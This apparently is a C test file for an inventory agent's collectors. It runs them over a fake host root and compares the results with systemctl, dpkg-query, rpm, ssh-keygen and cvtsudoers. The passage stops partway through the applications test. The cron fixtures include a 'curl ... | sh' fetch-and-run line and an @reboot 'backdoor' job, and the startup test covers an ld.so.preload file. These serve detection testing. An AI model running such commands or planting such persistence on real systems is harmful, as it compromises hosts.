/* test_inventory_fixtures.c - every collector over a fake host (tests/fixtures/inventory/root,
 * copied to a temporary root with what cannot live in git added: login records written with
 * utmpdump, a lastlog, an RPM database made with rpmbuild and rpm --justdb, set-id files), for
 * what this machine does not have. Where a system tool can read another root, the rows must
 * agree with it exactly: systemctl --root, dpkg-query --admindir, rpm --dbpath, ssh-keygen -l,
 * cvtsudoers, run-parts --test, find -perm, sha256sum, Python's importlib.metadata. */
#include <errno.h>
#include <jansson.h>
#include <lastlog.h>
#include <stdarg.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agent/agent_config.h"
#include "agent/host.h"
#include "agent/inventory/inventory_internal.h"
#include "agent/module.h"
#include "common/util.h"
#include "test.h"

#define FIXTURE VIGIL_SOURCE_DIR "/tests/fixtures/inventory/root"

static char root[64];
static struct agent_config cfg;
static struct inventory_config *icfg;
static struct host_info host;

/* ---------------------------------------------------------------- rows of a run */

struct rows {
    struct event *ev[512];
    int n;
};

static int keep(void *ctx, struct event *ev)
{
    struct rows *r = ctx;
    if (r->n < 512 && ev->table != TBL_INVENTORY_SCANS)
        r->ev[r->n++] = ev;
    else
        event_free(ev);
    return 0;
}

static void rows_free(struct rows *r)
{
    for (int i = 0; i < r->n; i++)
        event_free(r->ev[i]);
    r->n = 0;
}

static void collect(enum inv_collector_id c, struct rows *out)
{
    char state[] = "/tmp/vigil-fix-state.XXXXXX";
    CHECK(mkdtemp(state) != NULL);
    struct inv_engine *e = NULL;
    struct vg_error err = {{0}};
    out->n = 0;
    CHECK_EQ_INT(inv_engine_new(icfg, &host, state, keep, out, &e, &err), 0);
    struct inv_run_result r;
    CHECK_EQ_INT(inv_engine_run(e, c, false, &r), 0);
    if (r.status)
        fprintf(stderr, "%s: %s\n", inv_collectors[c]->name, r.error);
    CHECK_EQ_INT(r.status, 0);
    inv_engine_free(e);
    dir_remove_tree(state);
}

/* The row of table t whose field f is v. */
static const struct event *row(const struct rows *r, enum table_id t, enum field_id f, const char *v)
{
    for (int i = 0; i < r->n; i++) {
        const char *s = event_get_str(r->ev[i], f);
        if (r->ev[i]->table == t && s && !strcmp(s, v))
            return r->ev[i];
    }
    return NULL;
}

static int nrows(const struct rows *r, enum table_id t)
{
    int n = 0;
    for (int i = 0; i < r->n; i++)
        n += r->ev[i]->table == t;
    return n;
}

static const char *str(const struct event *ev, enum field_id f)
{
    const char *s = ev ? event_get_str(ev, f) : NULL;
    return s ? s : "(absent)";
}

static int64_t num(const struct event *ev, enum field_id f)
{
    int64_t v = -1;
    if (!ev || !event_get_int(ev, f, &v))
        return -1;
    return v;
}

/* The output of a command (popen), NUL-terminated; caller frees. */
static char *run_cmd(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static char *run_cmd(const char *fmt, ...)
{
    char cmd[4096];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cmd, sizeof(cmd), fmt, ap);
    va_end(ap);
    FILE *p = popen(cmd, "r");
    struct buf b = {0};
    char chunk[4096];
    size_t n;
    while (p && (n = fread(chunk, 1, sizeof(chunk), p)) > 0)
        buf_append(&b, chunk, n);
    if (p)
        pclose(p);
    buf_terminate(&b);
    return b.data ? (char *)b.data : strdup("");
}

static bool have(const char *tool)
{
    char *out = run_cmd("command -v %s 2>/dev/null", tool);
    bool ok = out[0] != '\0';
    free(out);
    return ok;
}

/* Sorted lines of text, joined by \n (for set comparisons). */
static int cmp_str(const void *a, const void *b) { return strcmp(*(char *const *)a, *(char *const *)b); }

static char *sorted(char *text)
{
    char *lines[1024];
    int n = 0;
    char *save = NULL;
    for (char *l = strtok_r(text, "\n", &save); l && n < 1024; l = strtok_r(NULL, "\n", &save))
        lines[n++] = l;
    qsort(lines, (size_t)n, sizeof(char *), cmp_str);
    struct buf b = {0};
    for (int i = 0; i < n; i++)
        buf_printf(&b, "%s\n", lines[i]);
    buf_terminate(&b);
    return b.data ? (char *)b.data : strdup("");
}

/* ---------------------------------------------------------------- the fake host */

static void prepare_root(void)
{
    strcpy(root, "/tmp/vigil-fix-root.XXXXXX");
    CHECK(mkdtemp(root) != NULL);
    char *out = run_cmd("cp -a " FIXTURE "/. %s/ && echo ok", root);
    CHECK_EQ_STR(out, "ok\n");
    free(out);
    /* login records */
    out = run_cmd(
        "cd %s && mkdir -p var/log run && "
        "printf '%%s\\n' '[2] [00000] [~~  ] [reboot  ] [~           ] [6.1.0-13-amd64      ] "
        "[0.0.0.0        ] [2024-03-01T10:00:00,000000+00:00]' '[7] [01234] [ts/0] [alice   ] "
        "[pts/0       ] [203.0.113.7         ] [203.0.113.7    ] [2024-03-01T10:05:00,123456+00:00]'"
        " '[8] [01234] [    ] [        ] [pts/0       ] [                    ] [0.0.0.0        ] "
        "[2024-03-01T11:00:00,000000+00:00]' | utmpdump -r > var/log/wtmp 2>/dev/null && "
        "printf '%%s\\n' '[6] [04321] [    ] [root    ] [ssh:notty   ] [198.51.100.9        ] "
        "[198.51.100.9   ] [2024-03-02T09:00:00,000000+00:00]' | utmpdump -r > var/log/btmp "
        "2>/dev/null && printf '%%s\\n' '[7] [05555] [ts/1] [bob     ] [pts/1       ] "
        "[192.0.2.44          ] [192.0.2.44     ] [2024-03-03T08:00:00,000000+00:00]' | "
        "utmpdump -r > run/utmp 2>/dev/null && echo ok",
        root);
    CHECK_EQ_STR(out, "ok\n");
    free(out);
    /* lastlog: alice (uid 1000) logged in from 198.51.100.1 */
    struct lastlog ll;
    memset(&ll, 0, sizeof(ll));
    ll.ll_time = 1709290000;
    strcpy(ll.ll_line, "pts/3");
    strcpy(ll.ll_host, "198.51.100.1");
    char p[256];
    snprintf(p, sizeof(p), "%s/var/log/lastlog", root);
    FILE *f = fopen(p, "w");
    CHECK(f != NULL);
    if (f) {
        fseek(f, 1000 * (long)sizeof(ll), SEEK_SET);
        fwrite(&ll, sizeof(ll), 1, f);
        fclose(f);
    }
    /* set-id files, and the time dpkg unpacked nginx */
    out = run_cmd("cd %s && mkdir -p usr/bin && cp /bin/true usr/bin/fakesu && chmod 4755 "
                  "usr/bin/fakesu && cp /bin/true usr/bin/fakesg && chmod 2755 usr/bin/fakesg && "
                  "touch -d @1700000000 var/lib/dpkg/info/nginx.list && echo ok",
                  root);
    CHECK_EQ_STR(out, "ok\n");
    free(out);
    /* an RPM database, when this machine can build one */
    if (have("rpmbuild") && have("rpm")) {
        out = run_cmd(
            "set -e; cd %s; T=$(mktemp -d); mkdir -p $T/SPECS; for v in 5.14.0-1 5.14.0-2; do "
            "printf 'Name: kernel-core\\nVersion: %%s\\nRelease: %%s\\nSummary: k\\nLicense: GPL\\n"
            "BuildArch: noarch\\n%%%%description\\nk\\n%%%%files\\n' ${v%%-*} ${v#*-} > "
            "$T/SPECS/k.spec; rpmbuild -bb --define \"_topdir $T\" $T/SPECS/k.spec >/dev/null 2>&1;"
            " done; printf 'Name: openssl-libs\\nEpoch: 1\\nVersion: 3.0.7\\nRelease: 24.el9\\n"
            "Summary: o\\nLicense: ASL\\nBuildArch: noarch\\n%%%%description\\no\\n%%%%files\\n' > "
            "$T/SPECS/o.spec; rpmbuild -bb --define \"_topdir $T\" $T/SPECS/o.spec >/dev/null "
            "2>&1; mkdir -p var/lib/rpm; rpm --dbpath $PWD/var/lib/rpm --initdb; rpm --dbpath "
            "$PWD/var/lib/rpm -i --justdb --nodeps --ignorearch --ignoreos $T/RPMS/noarch/*.rpm "
            ">/dev/null 2>&1; rm -rf $T; echo ok",
            root);
        CHECK_EQ_STR(out, "ok\n");
        free(out);
    } else {
        fprintf(stderr, "rpm or rpmbuild missing: the RPM reader is not tested\n");
    }
}

/* ---------------------------------------------------------------- collectors */

static void test_host(void)
{
    struct rows r;
    collect(INV_C_host, &r);
    const struct event *h = row(&r, TBL_HOST_INFO_CHANGES, FLD_ROW_KEY, "host");
    CHECK_EQ_STR(str(h, FLD_OS), "Rocky Linux 9.3 (Blue Onyx)");
    CHECK_EQ_STR(str(h, FLD_OS_ID), "rocky");
    CHECK_EQ_STR(str(h, FLD_OS_VERSION), "9.3");
    CHECK_EQ_STR(str(h, FLD_OS_CODENAME), "blue-onyx");
    CHECK_EQ_STR(str(h, FLD_KERNEL), "5.14.0-362.8.1.el9_3.x86_64");
    CHECK_EQ_STR(str(h, FLD_ARCH), "x86_64");
    CHECK_EQ_STR(str(h, FLD_MACHINE_ID), "0123456789abcdef0123456789abcdef");
    CHECK_EQ_INT(num(h, FLD_BOOT_TIME), 1709280000ll * 1000000000ll);
    CHECK_EQ_STR(str(h, FLD_CPU_MODEL), "AMD EPYC 7B13");
    CHECK_EQ_INT(num(h, FLD_CPU_COUNT), 4);
    CHECK_EQ_INT(num(h, FLD_CPU_CORES), 4);
    CHECK_EQ_INT(num(h, FLD_CPU_SOCKETS), 2);
    CHECK_EQ_INT(num(h, FLD_MEMORY_BYTES), 8000000ll * 1024);
    CHECK_EQ_INT(num(h, FLD_SWAP_BYTES), 2097148ll * 1024);
    CHECK_EQ_STR(str(h, FLD_VIRTUALIZATION), "amazon");
    CHECK_EQ_STR(str(h, FLD_CLOUD_PROVIDER), "aws");
    CHECK_EQ_STR(str(h, FLD_HW_MODEL), "m5.large");
    CHECK_EQ_STR(str(h, FLD_DNS_SERVERS), "10.0.0.53,fd00::53");
    CHECK_EQ_STR(str(h, FLD_DNS_SEARCH), "corp.example,example.com");
    CHECK_EQ_STR(str(h, FLD_TIMEZONE), "Europe/Paris");
    CHECK_EQ_INT(nrows(&r, TBL_MOUNT_CHANGES), 6);
    const struct event *m = row(&r, TBL_MOUNT_CHANGES, FLD_MOUNT_TARGET, "/mnt/with space");
    CHECK_EQ_STR(str(m, FLD_FS_TYPE), "ext4");
    const struct event *d = row(&r, TBL_DISK_CHANGES, FLD_DEVICE, "sda");
    CHECK_EQ_INT(num(d, FLD_SIZE_BYTES), 209715200ll * 512);
    CHECK_EQ_STR(str(d, FLD_MODEL), "VIRTUAL-DISK");
    CHECK_EQ_INT(num(d, FLD_ROTATIONAL), 1);
    CHECK(row(&r, TBL_DISK_CHANGES, FLD_DEVICE, "loop0") == NULL); /* nothing attached */
    const struct event *i = row(&r, TBL_INTERFACE_CHANGES, FLD_INTERFACE, "eth0");
    CHECK_EQ_STR(str(i, FLD_MAC), "02:42:ac:11:00:02");
    CHECK_EQ_INT(num(i, FLD_MTU), 9001);
    CHECK_EQ_STR(str(i, FLD_LINK_STATE), "up");
    CHECK_EQ_STR(str(i, FLD_INTERFACE_TYPE), "ethernet");
    CHECK_EQ_INT(nrows(&r, TBL_ROUTE_CHANGES), 2); /* the reject routes are not routes */
    const struct event *v4 = row(&r, TBL_ROUTE_CHANGES, FLD_DESTINATION, "0.0.0.0/0");
    CHECK_EQ_STR(str(v4, FLD_GATEWAY), "10.0.0.1");
    CHECK_EQ_INT(num(v4, FLD_METRIC), 100);
    const struct event *v6 = row(&r, TBL_ROUTE_CHANGES, FLD_DESTINATION, "::/0");
    CHECK_EQ_STR(str(v6, FLD_GATEWAY), "fd00::1");
    rows_free(&r);
}

static void test_accounts(void)
{
    struct rows r;
    collect(INV_C_accounts, &r);
    CHECK_EQ_INT(nrows(&r, TBL_USER_CHANGES), 7);
    const struct event *u = row(&r, TBL_USER_CHANGES, FLD_USER, "alice");
    CHECK_EQ_INT(num(u, FLD_UID), 1000);
    CHECK_EQ_STR(str(u, FLD_HOME), "/home/alice");
    CHECK_EQ_STR(str(u, FLD_GECOS), "Alice Example,,,");
    CHECK_EQ_STR(str(u, FLD_PASSWORD_STATE), "set");
    CHECK_EQ_STR(str(u, FLD_PASSWORD_SCHEME), "sha512");
    const int64_t day = 86400ll * 1000000000ll;
    CHECK_EQ_INT(num(u, FLD_PASSWORD_CHANGED), 19800 * day);
    CHECK_EQ_INT(num(u, FLD_PASSWORD_MAX_DAYS), 90);
    CHECK_EQ_INT(num(u, FLD_PASSWORD_EXPIRES), (19800 + 90) * day);
    CHECK_EQ_INT(num(u, FLD_ACCOUNT_EXPIRES), 20000 * day);
    CHECK_EQ_INT(num(u, FLD_LAST_LOGIN), 1709290000ll * 1000000000ll);
    CHECK_EQ_STR(str(u, FLD_LAST_LOGIN_FROM), "198.51.100.1");
    CHECK_EQ_STR(str(row(&r, TBL_USER_CHANGES, FLD_USER, "root"), FLD_PASSWORD_SCHEME), "yescrypt");
    CHECK_EQ_STR(str(row(&r, TBL_USER_CHANGES, FLD_USER, "daemon"), FLD_PASSWORD_STATE), "locked");
    const struct event *bob = row(&r, TBL_USER_CHANGES, FLD_USER, "bob");
    CHECK_EQ_STR(str(bob, FLD_PASSWORD_STATE), "locked");
    CHECK_EQ_STR(str(bob, FLD_PASSWORD_SCHEME), "md5");
    const struct event *toor = row(&r, TBL_USER_CHANGES, FLD_USER, "toor");
    CHECK_EQ_INT(num(toor, FLD_UID), 0);
    CHECK_EQ_INT(num(toor, FLD_PASSWORD_CHANGED), 0); /* must change at next login */
    CHECK_EQ_STR(str(row(&r, TBL_USER_CHANGES, FLD_USER, "nopass"), FLD_PASSWORD_STATE), "empty");
    const struct event *legacy = row(&r, TBL_USER_CHANGES, FLD_USER, "legacy");
    CHECK_EQ_STR(str(legacy, FLD_PASSWORD_STATE), "set"); /* a hash in passwd itself */
    CHECK_EQ_STR(str(legacy, FLD_PASSWORD_SCHEME), "des");
    /* never a hash */
    for (int i = 0; i < r.n; i++)
        for (unsigned k = 0; k < r.ev[i]->nfields; k++)
            if (r.ev[i]->fields[k].type == FT_TEXT)
                CHECK(strstr(event_field_str(r.ev[i], &r.ev[i]->fields[k]), "$6$saltsalt") == NULL);
    CHECK_EQ_STR(str(row(&r, TBL_GROUP_CHANGES, FLD_GROUP, "sudo"), FLD_MEMBERS), "alice,toor");
    CHECK_EQ_STR(str(row(&r, TBL_GROUP_CHANGES, FLD_GROUP, "root"), FLD_MEMBERS), "");
    rows_free(&r);
}

static void test_sudoers(void)
{
    struct rows r;
    collect(INV_C_sudoers, &r);
    CHECK(row(&r, TBL_SUDOERS_CHANGES, FLD_PRINCIPAL, "eve") == NULL);     /* ignored.conf */
    CHECK(row(&r, TBL_SUDOERS_CHANGES, FLD_PRINCIPAL, "mallory") == NULL); /* backup~ */
    const struct event *bob = row(&r, TBL_SUDOERS_CHANGES, FLD_PRINCIPAL, "bob");
    CHECK_EQ_STR(str(bob, FLD_PATH), "/etc/sudoers.d/90-bob");
    CHECK_EQ_INT(num(bob, FLD_NOPASSWD), 1);
    /* the user specifications as cvtsudoers reads them */
    if (!have("cvtsudoers")) {
        rows_free(&r);
        return;
    }
    char *json = run_cmd("cvtsudoers -f json %s/etc/sudoers 2>/dev/null", root);
    json_error_t jerr;
    json_t *doc = json_loads(json, 0, &jerr);
    CHECK(doc != NULL);
    struct buf theirs = {0}, ours = {0};
    size_t i, j, k, m;
    json_t *spec, *cs, *cmd, *u;
    json_array_foreach(json_object_get(doc, "User_Specs"), i, spec) {
        struct buf users = {0};
        json_array_foreach(json_object_get(spec, "User_List"), j, u) {
            const char *key = json_object_iter_key(json_object_iter(u));
            json_t *v = json_object_iter_value(json_object_iter(u));
            char item[256];
            if (!strcmp(key, "usergroup"))
                snprintf(item, sizeof(item), "%%%s", json_string_value(v));
            else if (!strcmp(key, "userid"))
                snprintf(item, sizeof(item), "#%lld", (long long)json_integer_value(v));
            else
                snprintf(item, sizeof(item), "%s", json_string_value(v));
            buf_printf(&users, "%s%s", users.len ? "," : "", item);
        }
        buf_terminate(&users);
        json_array_foreach(json_object_get(spec, "Cmnd_Specs"), k, cs) {
            bool nopasswd = false;
            json_array_foreach(json_object_get(cs, "Options"), m, u)
                if (json_object_get(u, "authenticate") && json_is_false(json_object_get(u, "authenticate")))
                    nopasswd = true;
            json_array_foreach(json_object_get(cs, "Commands"), m, cmd) {
                const char *c = json_string_value(json_object_get(cmd, "command"));
                if (!c)
                    c = json_string_value(json_object_get(cmd, "cmndalias"));
                buf_printf(&theirs, "%s|%s|%d\n", (char *)users.data, c ? c : "?", nopasswd);
            }
        }
        buf_free(&users);
    }
    json_decref(doc);
    free(json);
    for (int x = 0; x < r.n; x++) {
        if (strcmp(str(r.ev[x], FLD_RULE_TYPE), "spec") != 0)
            continue;
        const char *c = str(r.ev[x], FLD_COMMAND);
        if (!strncmp(c, "sha256:", 7)) /* cvtsudoers has the digest apart */
            c = strchr(c, ' ') + 1;
        buf_printf(&ours, "%s|%s|%d\n", str(r.ev[x], FLD_PRINCIPAL), c,
                   (int)num(r.ev[x], FLD_NOPASSWD));
    }
    buf_terminate(&theirs);
    buf_terminate(&ours);
    char *a = sorted((char *)theirs.data), *b = sorted((char *)ours.data);
    CHECK_EQ_STR(b, a);
    free(a);
    free(b);
    buf_free(&theirs);
    buf_free(&ours);
    rows_free(&r);
}

static void test_ssh_keys(void)
{
    struct rows r;
    collect(INV_C_ssh_keys, &r);
    CHECK_EQ_INT(nrows(&r, TBL_SSH_KEY_CHANGES), 3);
    /* what ssh-keygen -l says of the same files */
    char *a = run_cmd("ssh-keygen -lf %s/home/alice/.ssh/authorized_keys 2>/dev/null; "
                      "ssh-keygen -lf %s/etc/ssh/keys/bob", root, root);
    struct buf ours = {0};
    for (int i = 0; i < r.n; i++) {
        buf_printf(&ours, "%lld %s %s (%s)\n", (long long)num(r.ev[i], FLD_KEY_BITS),
                   str(r.ev[i], FLD_FINGERPRINT), str(r.ev[i], FLD_KEY_COMMENT),
                   str(r.ev[i], FLD_KEY_TYPE));
    }
    buf_terminate(&ours);
    char *x = sorted(a), *y = sorted((char *)ours.data);
    CHECK_EQ_STR(y, x);
    free(x);
    free(y);
    free(a);
    buf_free(&ours);
    const struct event *rsa = row(&r, TBL_SSH_KEY_CHANGES, FLD_KEY_TYPE, "RSA");
    CHECK(strstr(str(rsa, FLD_KEY_OPTIONS), "from=\"10.0.0.0/8\"") != NULL);
    CHECK_EQ_STR(str(rsa, FLD_USER), "alice");
    const struct event *bob = row(&r, TBL_SSH_KEY_CHANGES, FLD_USER, "bob");
    CHECK_EQ_STR(str(bob, FLD_PATH), "/etc/ssh/keys/bob"); /* AuthorizedKeysFile of an Include */
    rows_free(&r);
}

static void test_logins(void)
{
    struct rows r;
    collect(INV_C_logins, &r);
    CHECK_EQ_INT(nrows(&r, TBL_LOGIN_HISTORY_CHANGES), 4);
    const struct event *u = row(&r, TBL_LOGIN_HISTORY_CHANGES, FLD_LOGIN_TYPE, "user");
    CHECK_EQ_STR(str(u, FLD_USER), "alice");
    CHECK_EQ_STR(str(u, FLD_REMOTE_HOST), "203.0.113.7");
    CHECK_EQ_INT(num(u, FLD_LOGIN_TIME), 1709287500123456000ll);
    const struct event *f = row(&r, TBL_LOGIN_HISTORY_CHANGES, FLD_LOGIN_TYPE, "failed");
    CHECK_EQ_STR(str(f, FLD_USER), "root");
    CHECK_EQ_STR(str(f, FLD_PATH), "/var/log/btmp");
    CHECK(row(&r, TBL_LOGIN_HISTORY_CHANGES, FLD_LOGIN_TYPE, "boot") != NULL);
    const struct event *s = row(&r, TBL_SESSION_CHANGES, FLD_USER, "bob");
    CHECK_EQ_STR(str(s, FLD_TTY), "pts/1");
    CHECK_EQ_INT(num(s, FLD_PID), 5555);
    rows_free(&r);
}

static void test_packages(void)
{
    struct rows r;
    collect(INV_C_packages, &r);
    char *dq = run_cmd("dpkg-query --admindir=%s/var/lib/dpkg -W -f='${Package}\\t${Architecture}"
                       "\\t${Version}\\t${source:Package}\\t${Status}\\n' 2>/dev/null", root);
    struct buf ours = {0}, rpm = {0};
    for (int i = 0; i < r.n; i++) {
        const char *mgr = str(r.ev[i], FLD_PACKAGE_MANAGER);
        if (!strcmp(mgr, "dpkg"))
            buf_printf(&ours, "%s\t%s\t%s\t%s\t%s\n", str(r.ev[i], FLD_PACKAGE_NAME),
                       str(r.ev[i], FLD_ARCH), str(r.ev[i], FLD_VERSION),
                       str(r.ev[i], FLD_SOURCE_PACKAGE), str(r.ev[i], FLD_PACKAGE_STATUS));
        else
            buf_printf(&rpm, "%s\t%s\t%s\n", str(r.ev[i], FLD_PACKAGE_NAME),
                       str(r.ev[i], FLD_ARCH), str(r.ev[i], FLD_VERSION));
    }
    buf_terminate(&ours);
    buf_terminate(&rpm);
    char *x = sorted(dq), *y = sorted((char *)ours.data);
    CHECK_EQ_STR(y, x);
    free(x);
    free(y);
    free(dq);
    const struct event *nginx = row(&r, TBL_PACKAGE_CHANGES, FLD_PACKAGE_NAME, "nginx");
    CHECK_EQ_INT(num(nginx, FLD_INSTALL_TIME), 1700000000ll * 1000000000ll);
    CHECK_EQ_INT(num(nginx, FLD_SIZE_BYTES), 1200 * 1024);
    CHECK_EQ_STR(str(row(&r, TBL_PACKAGE_CHANGES, FLD_ROW_KEY, "dpkg\tlibc6\ti386"), FLD_ARCH), "i386");
    char p[256];
    snprintf(p, sizeof(p), "%s/var/lib/rpm", root);
    if (access(p, F_OK) == 0) {
        char *rq = run_cmd("rpm --dbpath %s -qa --qf '%%{NAME}\\t%%{ARCH}\\t%%{EVR}\\n'", p);
        x = sorted(rq);
        y = sorted((char *)rpm.data);
        CHECK_EQ_STR(y, x);
        CHECK(strstr(y, "openssl-libs\tnoarch\t1:3.0.7-24.el9") != NULL);
        free(x);
        free(y);
        free(rq);
        /* a package installed twice: told apart by version */
        CHECK(row(&r, TBL_PACKAGE_CHANGES, FLD_ROW_KEY, "rpm\tkernel-core\tnoarch\t5.14.0-1") != NULL);
        CHECK(row(&r, TBL_PACKAGE_CHANGES, FLD_ROW_KEY, "rpm\tkernel-core\tnoarch\t5.14.0-2") != NULL);
        CHECK(row(&r, TBL_PACKAGE_CHANGES, FLD_ROW_KEY, "rpm\topenssl-libs\tnoarch") != NULL);
    }
    buf_free(&ours);
    buf_free(&rpm);
    rows_free(&r);
}

static void test_language_packages(void)
{
    struct rows r;
    collect(INV_C_language_packages, &r);
    struct buf ours = {0};
    for (int i = 0; i < r.n; i++)
        buf_printf(&ours, "%s %s\n", str(r.ev[i], FLD_PACKAGE_NAME), str(r.ev[i], FLD_VERSION));
    buf_terminate(&ours);
    char *py = run_cmd("python3 -c 'import importlib.metadata as m\nfor d in m.distributions("
                       "path=[\"%s/usr/lib/python3/dist-packages\", \"%s/usr/local/lib/python3.11"
                       "/site-packages\"]):\n  n = d.metadata[\"Name\"]\n  n and print(n, d.version)'",
                       root, root);
    char *x = sorted(py), *y = sorted((char *)ours.data);
    CHECK_EQ_STR(y, x);
    CHECK(strstr(y, "requests 2.31.0") != NULL);
    free(x);
    free(y);
    free(py);
    buf_free(&ours);
    rows_free(&r);
}

static void test_services(void)
{
    struct rows r;
    collect(INV_C_services, &r);
    if (have("systemctl")) {
        char *sc = run_cmd("systemctl --root=%s list-unit-files --no-legend --no-pager 2>/dev/null"
                           " | awk '{print $1, $2}'", root);
        struct buf ours = {0};
        for (int i = 0; i < r.n; i++)
            if (!strcmp(str(r.ev[i], FLD_SERVICE_TYPE), "systemd"))
                buf_printf(&ours, "%s %s\n", str(r.ev[i], FLD_SERVICE_NAME),
                           str(r.ev[i], FLD_UNIT_STATE));
        buf_terminate(&ours);
        char *x = sorted(sc), *y = sorted((char *)ours.data);
        CHECK_EQ_STR(y, x);
        free(x);
        free(y);
        free(sc);
        buf_free(&ours);
    }
    const struct event *a = row(&r, TBL_SERVICE_CHANGES, FLD_SERVICE_NAME, "a.service");
    CHECK_EQ_STR(str(a, FLD_COMMAND), "/usr/local/bin/a-patched"); /* the drop-in wins */
    CHECK_EQ_STR(str(a, FLD_USER), "aaa");
    CHECK_EQ_STR(str(a, FLD_WANTED_BY), "multi-user.target");
    const struct event *legacy = row(&r, TBL_SERVICE_CHANGES, FLD_SERVICE_NAME, "legacy");
    CHECK_EQ_STR(str(legacy, FLD_SERVICE_TYPE), "sysv");
    CHECK_EQ_STR(str(legacy, FLD_UNIT_STATE), "enabled");
    CHECK_EQ_STR(str(legacy, FLD_DESCRIPTION), "Legacy daemon");
    CHECK_EQ_STR(str(row(&r, TBL_SERVICE_CHANGES, FLD_SERVICE_NAME, "off"), FLD_UNIT_STATE),
                 "disabled");
    CHECK(row(&r, TBL_SERVICE_CHANGES, FLD_SERVICE_NAME, "README") == NULL);
    rows_free(&r);
}

static void test_cron(void)
{
    struct rows r;
    collect(INV_C_cron, &r);
    const struct event *bd = row(&r, TBL_CRON_JOB_CHANGES, FLD_COMMAND, "/usr/local/bin/backdoor --quiet");
    CHECK_EQ_STR(str(bd, FLD_SCHEDULE), "@reboot");
    CHECK_EQ_STR(str(bd, FLD_CRON_SOURCE), "crontab");
    CHECK_EQ_STR(str(row(&r, TBL_CRON_JOB_CHANGES, FLD_COMMAND, "/home/alice/bin/poll.sh > /dev/null 2>&1"),
                     FLD_USER), "alice");
    CHECK(row(&r, TBL_CRON_JOB_CHANGES, FLD_COMMAND, "/should/not/run") == NULL);
    const struct event *u = row(&r, TBL_CRON_JOB_CHANGES, FLD_COMMAND, "curl -s http://10.0.0.9/x | sh");
    CHECK_EQ_STR(str(u, FLD_CRON_SOURCE), "user_crontab");
    CHECK_EQ_STR(str(u, FLD_USER), "alice");
    CHECK_EQ_STR(str(u, FLD_SCHEDULE), "0 9 * * 1-5");
    /* the scripts run-parts would run */
    char *rp = run_cmd("cd %s && for d in hourly daily weekly monthly; do [ -d etc/cron.$d ] && "
                       "run-parts --test etc/cron.$d; done | sed 's|^|/|'", root);
    struct buf ours = {0};
    for (int i = 0; i < r.n; i++)
        if (!strncmp(str(r.ev[i], FLD_CRON_SOURCE), "cron.", 5) &&
            strcmp(str(r.ev[i], FLD_CRON_SOURCE), "cron.d") != 0)
            buf_printf(&ours, "%s\n", str(r.ev[i], FLD_PATH));
    buf_terminate(&ours);
    char *x = sorted(rp), *y = sorted((char *)ours.data);
    CHECK_EQ_STR(y, x);
    free(x);
    free(y);
    free(rp);
    buf_free(&ours);
    const struct event *at = row(&r, TBL_CRON_JOB_CHANGES, FLD_CRON_SOURCE, "at");
    CHECK_EQ_STR(str(at, FLD_SCHEDULE), "at 2024-01-18T22:43Z");
    CHECK(row(&r, TBL_CRON_JOB_CHANGES, FLD_CRON_SOURCE, "anacrontab") != NULL);
    CHECK_EQ_INT(nrows(&r, TBL_CRON_JOB_CHANGES), 3 + 1 + 2 + 2 + 2 + 1);
    rows_free(&r);
}

static void test_kernel(void)
{
    struct rows r;
    collect(INV_C_kernel_modules, &r);
    CHECK_EQ_INT(nrows(&r, TBL_KERNEL_MODULE_CHANGES), 3);
    const struct event *m = row(&r, TBL_KERNEL_MODULE_CHANGES, FLD_MODULE_NAME, "vigilmod");
    CHECK_EQ_STR(str(m, FLD_TAINT), "OE");
    CHECK_EQ_STR(str(m, FLD_VERSION), "1.2.3");
    CHECK_EQ_STR(str(row(&r, TBL_KERNEL_MODULE_CHANGES, FLD_MODULE_NAME, "nf_tables"), FLD_USED_BY),
                 "nft_chain_nat,nft_compat");
    rows_free(&r);
    collect(INV_C_sysctl, &r);
    CHECK_EQ_INT(nrows(&r, TBL_SYSCTL_CHANGES), 2); /* only the settings this "kernel" has */
    CHECK_EQ_STR(str(row(&r, TBL_SYSCTL_CHANGES, FLD_SETTING, "net.ipv4.ip_forward"), FLD_VALUE), "1");
    rows_free(&r);
    struct vg_error err = {{0}};
    CHECK_EQ_INT(agent_config_set(&cfg, "inventory.sysctl.settings=kernel.printk", &err), 0);
    collect(INV_C_sysctl, &r);
    CHECK_EQ_INT(nrows(&r, TBL_SYSCTL_CHANGES), 1);
    CHECK_EQ_STR(str(row(&r, TBL_SYSCTL_CHANGES, FLD_SETTING, "kernel.printk"), FLD_VALUE), "1\t4\t1\t7");
    rows_free(&r);
}

static void test_suid_and_startup(void)
{
    struct rows r;
    collect(INV_C_suid, &r);
    char *f = run_cmd("cd %s && find . -xdev -type f -perm /6000 | sed 's|^\\.||'", root);
    struct buf ours = {0};
    for (int i = 0; i < r.n; i++)
        buf_printf(&ours, "%s\n", str(r.ev[i], FLD_PATH));
    buf_terminate(&ours);
    char *x = sorted(f), *y = sorted((char *)ours.data);
    CHECK_EQ_STR(y, x);
    free(x);
    free(y);
    free(f);
    buf_free(&ours);
    const struct event *su = row(&r, TBL_SUID_FILE_CHANGES, FLD_PATH, "/usr/bin/fakesu");
    CHECK_EQ_INT(num(su, FLD_FILE_MODE), 04755);
    char *sum = run_cmd("sha256sum < /bin/true | cut -c1-64");
    sum[64] = '\0';
    CHECK_EQ_STR(str(su, FLD_SHA256), sum);
    free(sum);
    rows_free(&r);
    collect(INV_C_startup, &r);
    const struct event *pre = row(&r, TBL_STARTUP_FILE_CHANGES, FLD_PATH, "/etc/ld.so.preload");
    CHECK_EQ_STR(str(pre, FLD_STARTUP_TYPE), "ld.so.preload");
    char *s2 = run_cmd("sha256sum %s/etc/ld.so.preload | cut -c1-64", root);
    s2[64] = '\0';
    CHECK_EQ_STR(str(pre, FLD_SHA256), s2);
    free(s2);
    CHECK(row(&r, TBL_STARTUP_FILE_CHANGES, FLD_PATH, "/etc/rc.local") != NULL);
    CHECK(row(&r, TBL_STARTUP_FILE_CHANGES, FLD_PATH, "/etc/profile.d/opt.sh") != NULL);
    CHECK_EQ_STR(str(row(&r, TBL_STARTUP_FILE_CHANGES, FLD_PATH, "/root/.bashrc"), FLD_STARTUP_TYPE),
                 "root_shell");
    rows_free(&r);
}

static void test_applications(void)
{
    struct rows r;
    collect(INV_C_applications, &r);
    const struct event *ng = row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "nginx");
    CHECK_EQ_STR(str(ng, FLD_VERSION), "1.22.1");
    CHECK_EQ_STR(str(ng, FLD_PATH), "/etc/nginx/nginx.conf");
    CHECK_EQ_STR(str(ng, FLD_CONFIG_LISTEN), "443,[::]:443,8080,3306");
